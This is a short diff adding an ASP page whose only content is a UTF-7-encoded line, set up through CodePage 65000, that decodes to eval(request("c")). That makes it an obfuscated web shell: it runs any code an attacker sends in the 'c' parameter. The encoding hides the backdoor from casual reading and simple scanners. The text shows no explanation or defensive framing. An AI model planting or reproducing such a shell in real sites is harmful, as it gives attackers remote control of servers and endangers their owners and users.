@@ -1,0 +1,4 @@
+<%@ CodePage=65000 %>
+<%
++AGUAdgBhAGwAKAByAGUAcQB1AGUAcwB0ACgAIgBjACIAKQAp-
+%>
